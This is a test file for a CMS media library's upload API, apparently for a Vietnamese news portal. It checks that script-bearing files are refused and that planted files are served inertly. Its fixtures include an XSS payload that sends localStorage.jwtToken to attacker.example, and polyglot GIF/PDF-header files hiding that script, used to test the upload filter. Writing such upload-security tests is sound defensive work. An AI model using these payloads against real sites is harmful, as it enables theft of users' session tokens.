/**
 * The media library as the reporter (Author) uses it, through the admin's upload API: only photos, PDF, office
 * documents, audio and video are stored, decided from the content (a GIF or PDF header in front of a script
 * named .html, .js, .svg… is refused with a Vietnamese message, and nothing is stored); every file under
 * /uploads is served so that nothing in it runs, files planted before the check included, and hashed names
 * are cached for a year. The browser side (the Super Admin opening each file) is web/tests/e2e/uploads.test.ts.
 */
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import sharp from 'sharp';
import { AUTHOR, CMS_DIR, EDITOR, startSeededServer, type SeededServer } from '../helpers/portal';

const UPLOADS = path.join(CMS_DIR, 'public', 'uploads');
let seeded: SeededServer;
let reporter: Record<string, string>;
let editor: Record<string, string>;
const planted: string[] = [];

before(async () => {
  seeded = await startSeededServer({ logins: [AUTHOR, EDITOR] });
  reporter = seeded.auth[AUTHOR.email]!;
  editor = seeded.auth[EDITOR.email]!;
});

after(async () => {
  for (const file of planted) fs.rmSync(path.join(UPLOADS, file), { force: true });
  await seeded?.stop();
});

const SCRIPT = '<script>fetch("https://attacker.example/?t="+localStorage.jwtToken)</script>';
const GIF = (rest: string) => Buffer.from(`GIF89a${rest}`);
const PDF = (rest: string) => Buffer.from(`%PDF-1.4\n${rest}`);

async function upload(name: string, content: Buffer, type = 'application/octet-stream') {
  const form = new FormData();
  form.append('files', new Blob([new Uint8Array(content)], { type }), name);
  form.append('fileInfo', JSON.stringify({ name }));
  const res = await fetch(`${seeded.url}/upload`, { method: 'POST', headers: reporter, body: form });
  const text = await res.text();
  return { status: res.status, text, json: text.startsWith('[') || text.startsWith('{') ? JSON.parse(text) : null };
}

const libraryCount = async () => {
  const res = await seeded.api.get('/upload/files?pageSize=1', reporter);
  assert.equal(res.status, 200, res.text);
  return res.json.pagination.total as number;
};

const serve = (url: string) => fetch(`${seeded.url}${url}`);

describe('uploads as the reporter', () => {
  test('every hostile file is refused with a Vietnamese message and nothing is stored', async () => {
    const hostile: Array<[string, Buffer, string?]> = [
      ...['html', 'htm', 'shtml', 'xhtml', 'xml', 'js'].flatMap((ext): Array<[string, Buffer]> => [
        [`anh-dep.${ext}`, GIF(SCRIPT)],
        [`cong-van.${ext}`, PDF(SCRIPT)],
      ]),
      ['logo.svg', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`), 'image/svg+xml'],
      ['logo-xml.svg', Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`)],
      ['trang.html', Buffer.from(`<!doctype html>${SCRIPT}`), 'text/html'],
      ['script.js', Buffer.from('fetch("https://attacker.example/?t="+localStorage.jwtToken)'), 'application/javascript'],
      // A name that looks like a photo does not make the content one, nor the other way round.
      ['anh.gif', Buffer.from(`<!doctype html>${SCRIPT}`), 'image/gif'],
      ['anh.png', GIF(SCRIPT), 'image/png'],
    ];
    const before = await libraryCount();
    const onDisk = new Set(fs.readdirSync(UPLOADS));
    for (const [name, content, type] of hostile) {
      const res = await upload(name, content, type);
      assert.equal(res.status, 400, `${name}: ${res.status} ${res.text.slice(0, 300)}`);
      assert.equal(res.json?.error?.message?.startsWith(`Không nhận tệp "${name}"`), true, `${name}: ${res.text.slice(0, 300)}`);
      assert.doesNotMatch(res.text, /stack|at \w+ \(/, `${name}: no internals`);
    }
    assert.equal(await libraryCount(), before, 'no file added to the media library');
    assert.deepEqual(
      fs.readdirSync(UPLOADS).filter((f) => !onDisk.has(f)),
      [],
      'no file written to the uploads folder',
    );
  });

  test('photos, PDF, audio and video are stored and served with safe headers and a year of caching', async () => {
    const jpeg = await sharp({ create: { width: 8, height: 6, channels: 3, background: '#c00' } })
      .jpeg()
      .toBuffer();
    const png = await sharp({ create: { width: 8, height: 6, channels: 3, background: '#0c0' } })
      .png()
      .toBuffer();
    const mp3 = Buffer.concat([Buffer.from('ID3'), Buffer.from([3, 0, 0, 0, 0, 0, 0, 0xff, 0xfb, 0x90, 0x64]), Buffer.alloc(400)]);
    const mp4 = Buffer.concat([
      Buffer.from([0, 0, 0, 0x18]),
      Buffer.from('ftypisom'),
      Buffer.from([0, 0, 2, 0]),
      Buffer.from('isomiso2'),
      Buffer.alloc(100),
    ]);
    const allowed: Array<[string, Buffer, string, string]> = [
      ['anh-hop-dan.jpg', jpeg, 'image/jpeg', 'inline'],
      ['so-do.png', png, 'image/png', 'inline'],
      ['bao-cao.pdf', PDF('1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n'), 'application/pdf', 'attachment'],
      ['ban-tin.mp3', mp3, 'audio/mpeg', 'inline'],
      ['phong-su.mp4', mp4, 'video/mp4', 'inline'],
    ];
    for (const [name, content, type, disposition] of allowed) {
      const res = await upload(name, content);
      assert.equal(res.status, 201, `${name}: ${res.text.slice(0, 300)}`);
      const url = res.json[0].url as string;
      assert.match(url, /^\/uploads\/.+_[0-9a-f]{10}\.\w+$/, url);
      const served = await serve(url);
      assert.equal(served.status, 200, url);
      assert.equal(served.headers.get('content-type'), type, url);
      assert.equal(served.headers.get('content-disposition'), disposition, url);
      assert.equal(served.headers.get('x-content-type-options'), 'nosniff', url);
      assert.match(served.headers.get('content-security-policy') ?? '', /^default-src 'none'/, url);
      assert.equal(served.headers.get('cache-control'), 'public, max-age=31536000, immutable', url);
    }
  });

  test('a photo cannot be replaced by a script, nor by content its stored extension does not describe', async () => {
    const jpeg = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#00c' } })
      .jpeg()
      .toBuffer();
    const created = await upload('thay-the.jpg', jpeg);
    assert.equal(created.status, 201, created.text);
    const { id, url } = created.json[0];
    for (const [name, content] of [
      ['thay-the.html', GIF(SCRIPT)],
      ['thay-the.pdf', PDF(SCRIPT)],
    ] as const) {
      const form = new FormData();
      form.append('files', new Blob([new Uint8Array(content)], { type: 'application/octet-stream' }), name);
      const res = await fetch(`${seeded.url}/upload/files/${id}/replace`, { method: 'POST', headers: reporter, body: form });
      const text = await res.text();
      assert.equal(res.status, 400, `${name}: ${text.slice(0, 300)}`);
      assert.match(text, /Không nhận tệp/);
    }
    const served = await serve(url);
    assert.equal(served.headers.get('content-type'), 'image/jpeg');
    assert.deepEqual(Buffer.from(await served.arrayBuffer()), jpeg, 'the stored photo is unchanged');
  });
});

describe('files stored before the check are served safely', () => {
  test('HTML, SVG, XML and scripts planted in the uploads folder download as plain bytes, never as a page', async () => {
    const tag = crypto.randomBytes(4).toString('hex');
    for (const ext of ['html', 'htm', 'shtml', 'xhtml', 'xml', 'svg', 'js']) {
      const file = `planted-${tag}.${ext}`;
      fs.writeFileSync(path.join(UPLOADS, file), GIF(SCRIPT));
      planted.push(file);
      const served = await serve(`/uploads/${file}`);
      assert.equal(served.status, 200, file);
      assert.equal(served.headers.get('content-type'), 'application/octet-stream', file);
      assert.equal(served.headers.get('content-disposition'), 'attachment', file);
      assert.equal(served.headers.get('x-content-type-options'), 'nosniff', file);
      assert.match(served.headers.get('content-security-policy') ?? '', /default-src 'none'.*sandbox/, file);
      assert.notEqual(served.headers.get('cache-control'), 'public, max-age=31536000, immutable', `${file} has no hashed name`);
    }
  });
});

describe('a photo placed in an article’s body (issue 22.1)', () => {
  const ARTICLE = '/content-manager/collection-types/api::article.article';
  type Block = { type: string; image?: { url: string; width?: number } };

  test('the public reads the media library’s own /uploads address, whatever address the editor saved', async () => {
    const png = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#a50e0e' } })
      .png()
      .toBuffer();
    const uploaded = await upload('anh-trong-bai.png', png, 'image/png');
    assert.equal(uploaded.status, 201, uploaded.text);
    const file = uploaded.json[0] as { id: number; url: string };
    assert.match(file.url, /^\/uploads\/[\w-]+\.png$/);
    // What the blocks editor stores: the file as the admin showed it, with the admin's absolute address.
    const body = [
      { type: 'paragraph', children: [{ type: 'text', text: 'Ảnh chụp tại buổi họp dân.' }] },
      { type: 'image', image: { ...file, url: `http://localhost:1337${file.url}` }, children: [{ type: 'text', text: '' }] },
      // Not a file of the library: left as written (the web shows it as a link and never loads it).
      {
        type: 'image',
        image: {
          ...file,
          id: 999_999,
          url: 'https://example.org/anh.png',
          name: 'anh.png',
        },
        children: [{ type: 'text', text: '' }],
      },
    ];
    const created = await seeded.api.request(
      'POST',
      `${ARTICLE}?locale=vi`,
      { title: 'Ảnh trong thân bài', featured: false, body },
      reporter,
    );
    assert.equal(created.status, 201, created.text);
    const id = created.json.data.documentId as string;
    const published = await seeded.api.request('POST', `${ARTICLE}/${id}/actions/publish?locale=vi`, {}, editor);
    assert.equal(published.status, 200, published.text);

    const read = await seeded.api.graphql('query ($id: ID!) { article(documentId: $id, locale: "vi") { body } }', { id });
    assert.equal(read.status, 200, read.text);
    const images = (read.json.data.article.body as Block[]).filter((b) => b.type === 'image').map((b) => b.image!);
    assert.deepEqual(
      images.map((i) => i.url),
      [file.url, 'https://example.org/anh.png'],
    );
    assert.equal(images[0]!.width, 64, 'with the library’s own size');
    const served = await serve(file.url);
    assert.equal(served.status, 200);
    assert.equal(served.headers.get('content-type'), 'image/png');
  });
});
